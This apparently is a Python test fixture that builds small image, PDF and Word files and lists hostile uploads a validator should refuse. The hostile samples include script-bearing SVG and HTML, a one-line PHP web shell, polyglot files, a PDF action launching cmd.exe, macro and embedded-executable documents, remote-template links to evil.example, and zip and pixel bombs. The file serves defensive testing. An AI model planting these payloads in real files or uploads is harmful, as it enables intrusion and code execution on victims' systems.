"""Small files of every kind, made from their specifications, and what attackers make of them."""

from __future__ import annotations

import io
import struct
import zlib
from zipfile import ZIP_DEFLATED, ZipFile

DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"


def chunk(name: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


def png(width: int = 1, height: int = 1, *, extra: bytes = b"") -> bytes:
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\x00" + b"\xc0\x40\x40" * 1)
    text = chunk(b"tEXt", b"Comment\x00" + extra) if extra else b""
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + text + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


def jpeg(width: int = 1, height: int = 1, *, comment: bytes = b"", after: bytes = b"") -> bytes:
    def segment(marker: int, data: bytes) -> bytes:
        return bytes([0xFF, marker]) + struct.pack(">H", len(data) + 2) + data

    frame = segment(0xC0, struct.pack(">BHHB", 8, height, width, 1) + b"\x01\x11\x00")
    scan = segment(0xDA, b"\x01\x01\x00\x00\x3f\x00") + b"\x12\xff\x00\x34\xff\xd0\x56"
    said = segment(0xFE, comment) if comment else b""
    return (
        b"\xff\xd8"
        + segment(0xE0, b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00")
        + said
        + frame
        + scan
        + (b"\xff\xd9" + after)
    )


def gif(width: int = 1, height: int = 1, *, comment: bytes = b"") -> bytes:
    head = b"GIF89a" + struct.pack("<HHBBB", width, height, 0x80, 0, 0) + b"\x00\x00\x00\xff\xff\xff"
    said = b"\x21\xfe" + bytes([len(comment)]) + comment + b"\x00" if comment else b""
    image = b"\x2c" + struct.pack("<HHHHB", 0, 0, 1, 1, 0) + b"\x02\x02\x44\x01\x00"
    return head + said + image + b"\x3b"


def webp(width: int = 1, height: int = 1) -> bytes:
    bits = (width - 1) | (height - 1) << 14
    data = b"\x2f" + struct.pack("<I", bits) + b"\x07\x10\x11\x11\x88\x88\x08"
    body = b"WEBPVP8L" + struct.pack("<I", len(data)) + data
    return b"RIFF" + struct.pack("<I", len(body)) + body


def pdf(content: bytes = b"") -> bytes:
    return b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog " + content + b" >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"


def docx(**more: bytes) -> bytes:
    buffer = io.BytesIO()
    with ZipFile(buffer, "w", ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<w:document/>")
        for name, content in more.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def archive() -> bytes:
    buffer = io.BytesIO()
    with ZipFile(buffer, "w") as made:
        made.writestr("Evil.class", b"\xca\xfe\xba\xbe")
    return buffer.getvalue()


GOOD: dict[str, bytes] = {
    "png": png(),
    "jpeg": jpeg(),
    "gif": gif(),
    "webp": webp(),
    "pdf": pdf(),
    "txt": "Hello, my order is late. 我的订单迟到了。\r\n".encode(),
    "docx": docx(),
}
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
PAGE = b"<!doctype html><html><body onload=alert(1)></body></html>"

REFUSED: dict[str, tuple[str, bytes]] = {
    "an SVG as PNG": ("png", SVG),
    "a page as PNG": ("png", PAGE),
    "a page as JPEG": ("jpeg", PAGE),
    "a page as text": ("txt", PAGE),
    "an SVG as text": ("txt", b"\n " + SVG),
    "a PHP program as text": ("txt", b"<?php system($_GET[0]); ?>"),
    "a program as text": ("txt", b"MZ\x90\x00\x03\x00\x00\x00"),
    "a program as PDF": ("pdf", b"MZ\x90\x00" + pdf()),
    "a GIF as PNG": ("png", gif()),
    "a PNG as JPEG": ("jpeg", png()),
    "a PNG with a script in its text": ("png", png(extra=b"<ScRiPt>alert(1)</script>")),
    "a PNG with a page after it": ("png", png() + PAGE),
    "a PNG cut off": ("png", png()[:-8]),
    "a PNG of 4 gigapixels": ("png", png(65_535, 65_535)),
    "a GIF with an archive after it": ("gif", gif() + archive()),
    "a GIF with a script in its comment": ("gif", gif(comment=b"<script>alert(1)</script>")),
    "a GIF that is a script": ("gif", b"GIF89a/*" + b"*/=1;alert(1)//;"),
    "a GIF cut off": ("gif", gif()[:-1]),
    "a GIF of 4 gigapixels": ("gif", gif(65_535, 65_535)),
    "a JPEG with an archive after it": ("jpeg", jpeg(after=archive())),
    "a JPEG with a page in its comment": ("jpeg", jpeg(comment=PAGE)),
    "a JPEG with a page after it": ("jpeg", jpeg(after=PAGE)),
    "a JPEG with a PDF in front": ("jpeg", jpeg(comment=pdf())),
    "a JPEG cut off": ("jpeg", jpeg()[:-2]),
    "a JPEG of 4 gigapixels": ("jpeg", jpeg(65_535, 65_535)),
    "a WebP with an archive after it": ("webp", webp() + archive()),
    "a WebP of 268 megapixels": ("webp", webp(16_384, 16_384)),
    "a PDF with a script": ("pdf", pdf(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>")),
    "a PDF that starts a program": ("pdf", pdf(b"/OpenAction << /S /Launch /F (cmd.exe) >>")),
    "a PDF that is an archive": ("pdf", pdf() + archive()),
    "a PDF cut off": ("pdf", pdf()[:20]),
    "any archive as a document": ("docx", archive()),
    "a document with macros": ("docx", docx(**{"word/vbaProject.bin": b"\x00"})),
    "a document with a program inside": ("docx", docx(**{"word/embeddings/oleObject1.bin": b"MZ"})),
    "a document with a template elsewhere": (
        "docx",
        docx(
            **{
                "word/_rels/settings.xml.rels": b'<Relationship Type="http://x/attachedTemplate" '
                b'Target="http://evil.example/t.dotm" TargetMode="External"/>'
            }
        ),
    ),
    "a document with a template elsewhere, the words the other way round and a bracket between": (
        "docx",
        docx(
            **{
                "word/_rels/settings.xml.RELS": b"<Relationship TargetMode = 'External' Target='http://evil.example/>' "
                b"Type='http://x/attachedTemplate'/>"
            }
        ),
    ),
    "a document with a template elsewhere in UTF-16": (
        "docx",
        docx(
            **{
                "word/_rels/settings.xml.rels": (
                    '<Relationship Type="http://x/attachedTemplate" Target="http://evil.example/" '
                    'TargetMode="External"/>'
                ).encode("utf-16")
            }
        ),
    ),
    "a zip bomb": ("docx", docx(**{"word/media/a": b"\x00" * 80_000_000})),
    "a damaged document": ("docx", docx()[:-30]),
    "nothing": ("txt", b"\x00"),
}
